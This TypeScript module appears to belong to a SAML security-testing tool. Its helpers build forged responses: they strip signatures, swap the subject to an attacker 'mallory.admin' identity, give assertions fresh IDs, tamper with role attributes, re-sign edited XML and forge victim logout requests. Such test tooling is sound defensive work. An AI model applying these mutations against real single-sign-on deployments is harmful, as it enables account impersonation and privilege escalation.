import { randomBytes } from 'node:crypto';
import type { ResponseInput, SigningChoice } from '../profiles/profile.js';
import { NS, all, assertionOf, base64, child, children, parseXml, resign, setText } from './dom.js';
import { logoutRequest } from '../saml/logout.js';
import { toWire } from '../xml/element.js';
import type { LogoutMutationContext, MutatedResponse, MutationContext } from './types.js';

/** Mutations work on plain assertions: encryption is left out of every build they make. */
export function plain(input: ResponseInput): ResponseInput {
  const out = { ...input } as ResponseInput & { encryption?: unknown };
  delete out.encryption;
  return out;
}

/** Adjusts only the signing choice of a build. */
export const signedAs =
  (signing: Partial<SigningChoice>) =>
  (input: ResponseInput): ResponseInput =>
    plain({ ...input, signing: { ...input.signing, ...signing } });

export const UNSIGNED = signedAs({ response: false, assertion: false });
export const ASSERTION_ONLY = signedAs({ response: false, assertion: true });
export const RESPONSE_ONLY = signedAs({ response: true, assertion: false });
export const BOTH_SIGNED = signedAs({ response: true, assertion: true });

/** The host that stands for the attacker in every mutation. */
export const ATTACKER = 'attacker.example';

/** The identity an attacker would like to become: an admin at the victim's own domain. */
export function evilNameId(nameId: string): string {
  const at = nameId.lastIndexOf('@');
  return at > 0 ? `mallory.admin${nameId.slice(at)}` : `mallory.admin`;
}

/** A fresh SAML ID (an NCName), unlike any the IdP wrote. */
export const freshId = (): string => '_evil' + randomBytes(10).toString('hex');

export const asDelivery = (xml: string): MutatedResponse => ({ samlResponse: base64(xml), xml });

/** The vendor's response with only the Assertion signed, parsed, with that Assertion and its Signature. */
export function signedAssertion(ctx: MutationContext): {
  doc: Document;
  assertion: Element;
  signature: Element;
} {
  const doc = parseXml(ctx.build(ASSERTION_ONLY));
  const assertion = assertionOf(doc);
  return { doc, assertion, signature: children(assertion, NS.DS, 'Signature')[0]! };
}

/** The role attribute an attacker would raise (an app's `…_role` first), else the first attribute. */
export function targetAttribute(doc: Document): Element {
  const attrs = all(assertionOf(doc), NS.SAML, 'Attribute');
  const named = (re: RegExp) => attrs.find((a) => re.test(a.getAttribute('Name') ?? ''));
  const hit = named(/_role$/i) ?? named(/role/i) ?? attrs[0];
  if (!hit) throw new Error('the response carries no attribute to tamper with');
  return hit;
}

/** The assertion's Subject NameID. */
export const subjectNameId = (assertion: Element): Element =>
  child(child(assertion, NS.SAML, 'Subject'), NS.SAML, 'NameID');

/** Gives the assertion, in place, the attacker's NameID (`evilNameId` of the one it had). */
export function impersonate(assertion: Element): void {
  const el = subjectNameId(assertion);
  setText(el, evilNameId(el.textContent ?? ''));
}

/** Turns a copy of a signed assertion into the attacker's: new ID, the attacker's NameID, no signature. */
export function makeEvil(assertion: Element, nameId: string, keepId = false): Element {
  const evil = assertion.cloneNode(true) as Element;
  if (!keepId) evil.setAttribute('ID', freshId());
  for (const s of Array.from(evil.childNodes)) {
    if (s.nodeType === 1 && (s as Element).namespaceURI === NS.DS) evil.removeChild(s);
  }
  setText(subjectNameId(evil), evilNameId(nameId));
  return evil;
}

/**
 * Builds the response unsigned, lets `edit` change the document, then signs what the vendor
 * profile signs (the Assertion, the Response or both) with the tenant's trusted key, so the
 * only thing wrong with the result is the edit.
 */
export function editThenSign(ctx: MutationContext, edit: (doc: Document) => void): MutatedResponse {
  const doc = parseXml(ctx.build(UNSIGNED));
  edit(doc);
  const { signing } = ctx.input;
  const targets: Element[] = [];
  if (signing.assertion || !signing.response) targets.push(...all(doc, NS.SAML, 'Assertion'));
  if (signing.response) targets.push(doc.documentElement);
  return asDelivery(resign(doc, { key: ctx.input.key, algorithm: signing.algorithm, targets }));
}

export { assertionOf };

/** The IdP's own LogoutRequest naming the victim, unsigned, as a logout mutation starts from. */
export const victimLogoutRequest = (ctx: LogoutMutationContext): string =>
  toWire(
    logoutRequest({
      issuer: ctx.issuer,
      destination: ctx.destination,
      nameId: ctx.victimNameId,
      nameIdFormat: ctx.nameIdFormat,
      sessionIndex: '_' + randomBytes(12).toString('hex'),
      now: ctx.now,
    }),
  );
